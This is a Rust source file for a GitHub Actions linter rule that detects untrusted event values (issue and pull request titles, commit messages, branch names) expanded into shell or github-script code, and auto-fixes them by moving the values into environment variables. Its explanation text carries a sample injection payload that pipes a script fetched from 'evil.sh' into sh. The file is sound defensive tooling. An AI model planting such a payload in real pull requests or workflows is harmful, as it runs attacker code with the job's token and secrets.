//! `template-injection`: attacker-controlled values expanded into shell
//! scripts and `github-script` code.

use std::collections::HashSet;

use gantry_workflow::model::{StepAction, Text};
use gantry_workflow::{SourceFile, Span};

use super::RuleMeta;
use crate::context::{Ctx, StepRef};
use crate::expr::{Found, expressions, path_matches};
use crate::finding::{Confidence, Edit, Finding, Fix, Severity};

pub(crate) struct Rule;

static META: RuleMeta = RuleMeta {
    id: "template-injection",
    title: "attacker-controlled values expanded inside scripts",
    severity: Severity::High,
    pedantic: false,
    why: "`${{ }}` is expanded before the shell sees the script, so a pull request title like `a\"; curl evil.sh | sh; echo \"` becomes code that runs with the job's token and secrets. Titles, bodies, branch names, commit messages and comments are written by whoever opens the pull request or issue.",
    example: "- run: echo \"Title: ${{ github.event.issue.title }}\"",
    fix: "pass the value through an environment variable and quote it in the script: `env: { TITLE: ${{ github.event.issue.title }} }` and `run: echo \"Title: $TITLE\"`",
};

/// Values anyone who opens an issue or pull request, comments or pushes a
/// branch can choose.
const UNTRUSTED: &[&str] = &[
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.pages.*.page_name",
    "github.event.commits.*.message",
    "github.event.commits.*.author.email",
    "github.event.commits.*.author.name",
    "github.event.head_commit.message",
    "github.event.head_commit.author.email",
    "github.event.head_commit.author.name",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.head_ref",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.display_title",
    "github.event.workflow_run.head_commit.message",
    "github.event.workflow_run.head_commit.author.email",
    "github.event.workflow_run.head_commit.author.name",
    "github.event.workflow_run.pull_requests.*.head.ref",
];

/// Values that may carry untrusted text, depending on how they were set.
const MAYBE: &[&str] = &["steps.*.outputs.**", "needs.*.outputs.**", "env.**"];

/// Free text typed by whoever dispatches or calls the workflow or action.
const INPUTS: &[&str] = &["inputs.**", "github.event.inputs.**"];

fn classify(path: &str) -> Option<Confidence> {
    if UNTRUSTED.iter().any(|p| path_matches(p, path)) {
        Some(Confidence::High)
    } else if INPUTS.iter().any(|p| path_matches(p, path)) {
        Some(Confidence::Medium)
    } else if MAYBE.iter().any(|p| path_matches(p, path)) {
        Some(Confidence::Low)
    } else {
        None
    }
}

/// An environment variable name for an expression: `github.event.issue.title`
/// becomes `ISSUE_TITLE`.
fn env_name(text: &str) -> String {
    let trimmed = text
        .trim()
        .trim_start_matches("github.event.")
        .trim_start_matches("github.");
    let mut name = String::new();
    for c in trimmed.chars() {
        if c.is_ascii_alphanumeric() {
            name.push(c.to_ascii_uppercase());
        } else if !name.ends_with('_') {
            name.push('_');
        }
    }
    let name = name.trim_matches('_').to_string();
    match name.chars().next() {
        Some(c) if c.is_ascii_alphabetic() => name,
        _ => format!("VALUE_{name}"),
    }
}

/// Where each expression of `value` stands in the file, when the scalar is
/// written so that every expression appears verbatim.
fn locate(source: &SourceFile, text: &Text, found: &[Found]) -> Option<Vec<Span>> {
    let written = source.slice(text.span);
    let mut spans = Vec::new();
    let mut from = 0;
    for f in found {
        let at = written.get(from..)?.find(&f.written)? + from;
        spans.push(Span::new(
            text.span.start + at,
            text.span.start + at + f.written.len(),
        ));
        from = at + f.written.len();
    }
    Some(spans)
}

impl Rule {
    fn check_script(
        &self,
        ctx: &Ctx<'_>,
        step: &StepRef<'_>,
        script: &Text,
        is_run: bool,
        out: &mut Vec<Finding>,
    ) {
        let found = expressions(&script.value);
        let risky: Vec<(&Found, Confidence, String)> = found
            .iter()
            .filter_map(|f| {
                f.expr
                    .context_paths()
                    .iter()
                    .filter_map(|p| classify(p).map(|c| (c, p.clone())))
                    .max_by_key(|(c, _)| *c)
                    .map(|(c, p)| (f, c, p))
            })
            .collect();
        if risky.is_empty() {
            return;
        }
        let spans = locate(
            ctx.source,
            script,
            &risky
                .iter()
                .map(|(f, _, _)| (*f).clone())
                .collect::<Vec<_>>(),
        );
        let fix = if is_run {
            self.fix(ctx, step, &risky, spans.as_deref())
        } else {
            None
        };
        for (i, (found, confidence, path)) in risky.iter().enumerate() {
            let span = spans
                .as_ref()
                .and_then(|s| s.get(i).copied())
                .unwrap_or(script.span);
            let into = if is_run {
                "a shell script"
            } else {
                "script code"
            };
            let mut finding = ctx.finding(
                &META,
                span,
                *confidence,
                format!(
                    "`{}` is expanded into {into}; its value can inject code",
                    found.text
                ),
                format!("`{path}` may be attacker-controlled"),
            );
            finding.fix = fix.clone();
            out.push(finding);
        }
    }

    /// Moves the expressions into `env:` and refers to them as `${NAME}`,
    /// for steps run by a POSIX shell.
    fn fix(
        &self,
        ctx: &Ctx<'_>,
        step: &StepRef<'_>,
        risky: &[(&Found, Confidence, String)],
        spans: Option<&[Span]>,
    ) -> Option<Fix> {
        let spans = spans?;
        let StepAction::Run { shell, .. } = &step.step.action else {
            return None;
        };
        let shell = shell.as_ref().map(|s| s.value.as_str()).unwrap_or("bash");
        if !matches!(shell.split_whitespace().next(), Some("bash" | "sh")) {
            return None;
        }
        let step_node = locate_step_node(ctx, step)?;
        let mut taken: HashSet<String> = step.step.env.keys().cloned().collect();
        let mut edits = Vec::new();
        let mut lines = Vec::new();
        let mut names: Vec<(String, String)> = Vec::new();
        for ((found, _, _), span) in risky.iter().zip(spans) {
            let name = match names.iter().find(|(text, _)| *text == found.text) {
                Some((_, n)) => n.clone(),
                None => {
                    let base = env_name(&found.text);
                    let mut name = base.clone();
                    let mut n = 2;
                    while taken.contains(&name) {
                        name = format!("{base}_{n}");
                        n += 1;
                    }
                    taken.insert(name.clone());
                    lines.push(format!("{name}: {}", found.written));
                    names.push((found.text.clone(), name.clone()));
                    name
                }
            };
            edits.push(Edit::replace(*span, format!("${{{name}}}")));
        }
        let env_node = step_node.entry("env").map(|(_, v)| v);
        let insert = match env_node {
            Some(env) => {
                let refs: Vec<&str> = lines.iter().map(String::as_str).collect();
                crate::edit::insert_into_mapping(ctx.text(), env, &refs)?
            }
            None => {
                let mut block = vec!["env:".to_string()];
                block.extend(lines.iter().map(|l| format!("  {l}")));
                let refs: Vec<&str> = block.iter().map(String::as_str).collect();
                crate::edit::insert_into_mapping(ctx.text(), step_node, &refs)?
            }
        };
        edits.push(insert);
        Some(Fix {
            title: "pass the values through environment variables".into(),
            edits,
        })
    }
}

/// The YAML mapping of a step, found by its span.
fn locate_step_node<'a>(
    ctx: &Ctx<'a>,
    step: &StepRef<'_>,
) -> Option<&'a gantry_workflow::yaml::Node> {
    super::credential_persistence::find_mapping(ctx.yaml, step.step.span)
}

impl super::Rule for Rule {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn audit_step(&self, ctx: &Ctx<'_>, step: StepRef<'_>, out: &mut Vec<Finding>) {
        match &step.step.action {
            StepAction::Run { run, .. } => self.check_script(ctx, &step, run, true, out),
            StepAction::Uses { .. }
                if step.action_name().as_deref() == Some("actions/github-script") =>
            {
                if let Some(script) = step.with("script") {
                    self.check_script(ctx, &step, script, false, out);
                }
            }
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::env_name;

    #[test]
    fn names_variables_after_what_they_hold() {
        assert_eq!(env_name("github.event.issue.title"), "ISSUE_TITLE");
        assert_eq!(env_name("github.head_ref"), "HEAD_REF");
        assert_eq!(env_name("inputs.name"), "INPUTS_NAME");
        assert_eq!(
            env_name("github.event.commits[0].message"),
            "COMMITS_0_MESSAGE"
        );
        assert_eq!(env_name("1 + x"), "VALUE_1_X");
    }
}
